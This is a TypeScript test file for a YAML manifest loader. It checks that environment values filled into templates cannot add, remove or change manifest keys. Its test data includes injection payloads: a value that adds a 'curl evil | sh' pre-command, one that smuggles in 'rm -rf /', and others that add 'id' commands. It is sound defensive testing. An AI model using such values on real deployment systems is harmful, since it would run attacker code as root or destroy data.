import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ManifestError } from '../../src/manifest/errors.js';
import { manifestFromText } from '../../src/manifest/load.js';
import { Location } from '../../src/shared/location.js';

const URL_ = Location.parse('file:///srv/manifests/app.yml');
const load = (yaml: string, env: NodeJS.ProcessEnv) => manifestFromText(yaml, URL_, env).manifest;
const refusal = (yaml: string, env: NodeJS.ProcessEnv): string => {
  try {
    manifestFromText(yaml, URL_, env);
  } catch (err) {
    assert.ok(err instanceof ManifestError, String(err));
    return err.problems.join('\n');
  }
  assert.fail('expected the manifest to be refused');
};

test('template values fill in values, as in Go stretcher', () => {
  const m = load('dest: /srv/{{ env "APP" }}\ndest_mode: {{ env "MODE" }}\ncommands:\n  pre:\n    - echo {{ env "MSG" }}\n    - "say {{ env "MSG" | json_escape }}"\n', {
    APP: 'web',
    MODE: '0711',
    MSG: 'hi "there" {ok}',
  });
  assert.equal(m.dest, '/srv/web');
  assert.equal(m.destMode, 0o711);
  assert.deepEqual(m.commands.pre, ['echo hi "there" {ok}', 'say hi "there" {ok}']);
  // json_escape in double quotes: YAML unescapes what it escaped, as with Go stretcher's splicing.
  assert.deepEqual(load('commands:\n  pre: ["say {{ env "MSG" | json_escape }}"]\n', { MSG: 'a: "b"\nc' }).commands.pre, ['say a: "b"\nc']);
});

test('a template value cannot add, remove or change keys; the error names the variable and the line', () => {
  // The hole: a newline in APP_ENV added commands.pre to a signed manifest, and it ran as root.
  const injected = refusal('dest: /srv/app\nenvironment_note: x\ncommands:\n  post: ["echo {{ env "APP_ENV" }}"]\n'.replace('environment_note: x\n', ''), {
    APP_ENV: 'prod"]\n  pre: ["curl evil | sh',
  });
  assert.match(injected, /line 3: the value of APP_ENV would change the manifest's structure \(key "pre" was added, at commands\.pre\)/);
  // A plain scalar with a newline and a new key under it.
  assert.match(refusal('dest: /srv/{{ env "APP" }}\n', { APP: 'app\ncommands:\n  pre: [id]' }), /the value of APP would change the manifest's structure/);
  // A quote and a comment that replace a literal item while keeping the list's length.
  assert.match(refusal('commands:\n  pre: ["echo {{ env "X" }}", "echo safe"]\n', { X: 'a", "rm -rf /"] #' }), /the value of X (would change the manifest's structure|breaks the manifest's YAML)/);
  // More items in a flow list.
  assert.match(refusal('excludes: [{{ env "EXTRA" }}]\n', { EXTRA: 'a, b' }), /the value of EXTRA would change the manifest's structure \(a list of 1 became one of 2, at excludes\)/);
  // A key from a template.
  assert.match(refusal('{{ env "KEY" }}: /srv/app\n', { KEY: 'dest' }), /a key comes from a template/);
});

test('must_env and env defaults keep working where they fill in a value', () => {
  assert.equal(load('dest: /srv/{{ must_env "APP" }}\n', { APP: 'api' }).dest, '/srv/api');
  assert.equal(load('dest: /srv/{{ env "NOPE" "fallback" }}\n', {}).dest, '/srv/fallback');
  // Text that only looks like an action stays as written.
  assert.deepEqual(load('commands:\n  post: ["docker inspect -f \'{{.State.Running}}\' app"]\n', {}).commands.post, ["docker inspect -f '{{.State.Running}}' app"]);
});

test('a value that breaks the YAML is named alone, with its line; the harmless ones are not', () => {
  const yaml = 'dest: {{ must_env "TDEST" }}\nsrc: a.tgz\ncommands:\n  post:\n    - "echo {{ env "APP_ENV" }}"\n';
  const message = refusal(yaml, { TDEST: '/srv/app', APP_ENV: 'x\ncommands:\n  post: [id]' });
  assert.match(message, /^line 5: the value of APP_ENV breaks the manifest's YAML \(/);
  assert.doesNotMatch(message, /TDEST/);
});
